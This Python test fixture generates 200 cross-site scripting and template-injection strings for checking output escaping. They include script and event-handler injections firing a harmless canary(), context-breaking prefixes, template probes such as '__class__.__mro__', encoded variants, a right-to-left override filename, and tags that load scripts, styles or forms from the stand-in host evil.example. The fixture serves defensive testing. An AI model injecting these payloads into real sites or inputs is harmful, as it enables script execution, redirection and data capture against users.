"""Texts that would run in a page which does not escape them."""

RUNS = "canary()"
"""What a browser runs where a text is taken for markup or for a script."""
MARK = "data-canary"
"""The attribute that an element has which came out of a text."""
PRODUCT = "1337021"
"""What a template would write that computes a text."""

_MARKUP = (
    f"<script>{RUNS}</script>",
    f"<img src=x onerror={RUNS} {MARK}>",
    f"<svg onload={RUNS} {MARK}>",
    f"<b {MARK}>b</b>",
    f"<iframe srcdoc='<script>parent.{RUNS}</script>' {MARK}></iframe>",
    f"<a href=javascript:{RUNS} {MARK}>a</a>",
    f"<input autofocus onfocus={RUNS} {MARK}>",
    f"<details open ontoggle={RUNS} {MARK}>d</details>",
    f"<math><mtext><img src=x onerror={RUNS} {MARK}></mtext></math>",
    f"<style {MARK}>*{{display:none}}</style>",
    f"<meta http-equiv=refresh content='0;url=https://evil.example/' {MARK}>",
    f"<base href=https://evil.example/ {MARK}>",
    f"<link rel=stylesheet href=https://evil.example/x.css {MARK}>",
    f"<form action=https://evil.example/ {MARK}><button>b</button></form>",
    f"<object data=https://evil.example/x {MARK}></object>",
)
_BEFORE = (
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</select></option>",
    "]]>",
    "%>",
    "\u2028",
)
_ALONE = (
    f"javascript:{RUNS}",
    f"JaVaScRiPt:{RUNS}",
    f" javascript:{RUNS}",
    f"data:text/html,<script>parent.{RUNS}</script>",
    "//evil.example/x.js",
    f'" onmouseover={RUNS} autofocus onfocus={RUNS} x="',
    f"' onfocus={RUNS} autofocus x='",
    f"`-{RUNS}-`",
    f"'-{RUNS}-'",
    f'"-{RUNS}-"',
    f"\\'-{RUNS}//",
    f"${{{RUNS}}}",
    "{{ 1151 * 1161 + 710 }}",
    "{% print(1151 * 1161 + 710) %}",
    "{{ ''.__class__.__mro__ }}",
    "#{1151 * 1161 + 710}",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    f"&#60;script&#62;{RUNS}&#60;/script&#62;",
    f"%3Cscript%3E{RUNS}%3C/script%3E",
    "\u202etxt.exe",
)
STRINGS = (*_ALONE, *(before + markup for markup in _MARKUP for before in _BEFORE))
"""Two hundred of them."""
